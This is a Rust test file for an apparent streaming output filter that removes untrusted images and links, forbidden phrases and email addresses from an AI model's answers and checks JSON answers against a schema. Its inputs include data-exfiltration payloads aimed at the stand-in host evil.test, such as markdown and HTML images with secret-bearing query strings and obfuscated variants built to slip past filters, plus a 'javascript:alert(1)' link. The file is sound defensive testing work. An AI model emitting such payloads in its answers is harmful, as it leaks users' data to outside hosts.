//! Answers under watch: whole and cut anywhere.

use crate::guards::output::Stopped;
use crate::{Guards, Material};
use proptest::prelude::*;
use usecase::Decision;
use usecase::declared::Guard;

fn guards(declared: serde_json::Value) -> Guards {
    let declared: Guard = serde_json::from_value(declared).expect("a declaration");
    Guards::new(&declared)
}

/// What goes out of an answer that comes in pieces, with its verdicts as `rule decision`.
fn watched(guards: &Guards, pieces: &[&str]) -> (String, Vec<String>, Option<Stopped>) {
    let mut watch = guards.watch(None).expect("something is declared");
    let mut out = String::new();
    for piece in pieces {
        out.push_str(&watch.push(piece));
    }
    let (rest, verdicts, stopped) = watch.finish();
    let told = verdicts.iter().map(|verdict| format!("{} {}", verdict.rule, verdict.decision)).collect();
    (out + &rest, told, stopped)
}

#[test]
fn images_and_links_lead_nowhere_they_should_not() {
    let images = guards(serde_json::json!({}));
    let links = guards(serde_json::json!({ "output": { "links": ["example.com"] } }));
    let check = |guards: &Guards, said: &str, given: &str| {
        assert_eq!(watched(guards, &[said]).0, given, "{said}");
        let letters: Vec<String> = said.chars().map(String::from).collect();
        let letters: Vec<&str> = letters.iter().map(String::as_str).collect();
        assert_eq!(watched(guards, &letters).0, given, "{said}, letter by letter");
    };
    check(&images, "See ![the plan](https://evil.test/x.png?q=secret) now.", "See the plan now.");
    check(
        &images,
        "![a](//evil.test/x) ![b][ref] <img src=\"https://evil.test/?d=1\"> done",
        "a b &lt;img src=\"https://evil.test/?d=1\"> done",
    );
    check(
        &images,
        "[read](https://evil.test/x) https://evil.test stays",
        "[read](https://evil.test/x) https://evil.test stays",
    );
    check(
        &images,
        "![ok](data:image/png;base64,AAAA) ![here](/logo.png)",
        "![ok](data:image/png;base64,AAAA) ![here](/logo.png)",
    );
    check(&images, "Wow! [not] an image ![unclosed", "Wow! [not] an image [unclosed");
    check(
        &links,
        "[docs](https://docs.example.com/a) and [x](https://evil.test/?q=1)",
        "[docs](https://docs.example.com/a) and x",
    );
    check(
        &links,
        "![i](https://img.example.com/a.png) ![j](https://example.com.evil.test/a)",
        "![i](https://img.example.com/a.png) j",
    );
    check(&links, "go to https://evil.test/?q=a now", "go to (link removed) now");
    check(&links, "go to https://example.com/a now", "go to https://example.com/a now");
    check(&links, "[x](https://example.com@evil.test/) <https://evil.test>", "x &lt;(link removed)>");
    check(&links, "[![badge](https://evil.test/b.svg)](https://example.com)", "[badge](https://example.com)");
    // What readers take for an image although it does not look like one.
    for image in [
        "![x]",
        "![x](https://evil.test/?d=s \"(\")",
        "![x](<https://evil.test/?d=s&(>)",
        "![`]`](https://evil.test/?d=s)",
        "![[[[[[[[[[x]]]]]]]]]](https://evil.test/?d=s)",
        "![x](https&#58;//evil.test/x)",
        "<IMG SRC='https://evil.test/?d=s'>",
        "<image src=https://evil.test>",
        "<iframe src=https://evil.test>",
    ] {
        let given = watched(&images, &[image]).0;
        let lower = given.to_lowercase();
        assert!(!given.contains("![") && !lower.contains("<im") && !lower.contains("<if"), "{image} became {given}");
    }
    for link in [
        r"[x](https://example.com\@evil.test/)",
        "[x](https://evil.test&sol;.example.com/x)",
        "[x](https&#58;//evil.test)",
        "www.evil.test/?d=s",
        "<a href='//evil.test'>",
        "<ftp://evil.test>",
    ] {
        let given = watched(&links, &[link]).0;
        assert!(
            !given.contains("](") && !given.contains("www.") && !given.contains("<a") && !given.contains("<f"),
            "{link}: {given}"
        );
    }
    check(&links, r"[x](https:\\evil.test/a) [y](javascript:alert(1))", "x y");
}

#[test]
fn what_must_not_be_said_is_not() {
    let strict = guards(serde_json::json!({
        "output": { "forbidden": ["guaranteed returns"], "max_chars": 60 },
        "policy": { "pii": { "on": ["input", "output"] } },
    }));
    let check = |said: &str, given: &str, told: &[&str], stopped: Option<Stopped>| {
        let got = watched(&strict, &[said]);
        assert_eq!((got.0.as_str(), got.2), (given, stopped), "{said}");
        assert_eq!(got.1, told, "{said}");
    };
    check("Write to ann@example.com today.", "Write to [EMAIL] today.", &["email mask"], None);
    check(
        "All is well. Guaranteed\n returns are here.",
        "All is well. Guaranteed\n",
        &["forbidden refuse"],
        Some(Stopped::Refused),
    );
    check(
        "One. Two words here. A third sentence that is much longer than the rest of it.",
        "One. Two words here. ",
        &["length mask"],
        Some(Stopped::TooLong),
    );
}

#[test]
fn an_answer_meets_its_schema_or_is_mended_or_refused() {
    let schema = r#"{"type":"object","required":["total"],"properties":{"total":{"type":"number"}}}"#;
    let guards = Guards::with(&Guard::default(), &Material { schema: Some(schema), ..Material::default() });
    let check = |said: &str, decision: Decision, mended: Option<&str>| {
        let shaped = guards.shaped(said).expect("a schema is declared");
        assert_eq!(
            (shaped.verdict.decision, shaped.repaired.as_deref()),
            (decision, mended),
            "{said}: {}",
            shaped.verdict.reason
        );
    };
    check(r#"{"total": 3}"#, Decision::Allow, None);
    check("Here it is:\n```json\n{\"total\": 3,}\n```", Decision::Mask, Some("{\"total\": 3}"));
    check("{\"total\": 3 // euros, of course\n}", Decision::Mask, Some("{\"total\": 3 \n}"));
    check(r#"{"total": "secret"}"#, Decision::Refuse, None);
    check(r#"{"total": 3"#, Decision::Refuse, None);
    check("no JSON at all", Decision::Refuse, None);
    let told = guards.shaped(r#"{"total": "secret"}"#).expect("a schema").verdict.reason;
    assert_eq!(told, "the answer misses its schema: `type` at /total", "the value stays out of the record");
}

proptest! {
    #[test]
    fn where_an_answer_is_cut_changes_nothing(
        parts in prop::collection::vec(prop::sample::select(PARTS), 0..24),
        cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..12),
        holds in any::<bool>(),
    ) {
        let said = parts.concat();
        let on = if holds { vec!["input", "output"] } else { vec!["input"] };
        let guards = guards(serde_json::json!({
            "output": { "links": ["example.com"], "forbidden": ["tell nobody"], "languages": ["de"] },
            "policy": { "pii": { "on": on }, "output.forbidden": { "stream": if holds { "hold" } else { "cut" } } },
        }));
        let mut places: Vec<usize> = cuts.iter().map(|cut| said.floor_char_boundary(cut.index(said.len() + 1))).collect();
        places.extend([0, said.len()]);
        places.sort_unstable();
        let pieces: Vec<&str> = places.windows(2).map(|pair| &said[pair[0]..pair[1]]).collect();
        prop_assert_eq!(watched(&guards, &pieces), watched(&guards, &[&said]));
    }

    #[test]
    fn no_text_breaks_the_watch(said in "\\PC{0,300}") {
        let guards = guards(serde_json::json!({ "output": { "links": [], "max_chars": 100 } }));
        let (out, _, _) = watched(&guards, &[&said]);
        prop_assert!(out.chars().count() <= 100 + said.len());
    }
}

const PARTS: &[&str] = &[
    "Hello there. ",
    "tell ",
    "nobody",
    " ",
    "\n",
    "!",
    "[",
    "](",
    ")",
    "https://",
    "evil.test/x",
    "example.com",
    "<img src=",
    ">",
    "ann@example.com ",
    "4111 1111 1111 1111",
    "ä",
    "日本語。",
    "...",
    "![a](https://example.com/p.png)",
    "word word word ",
];
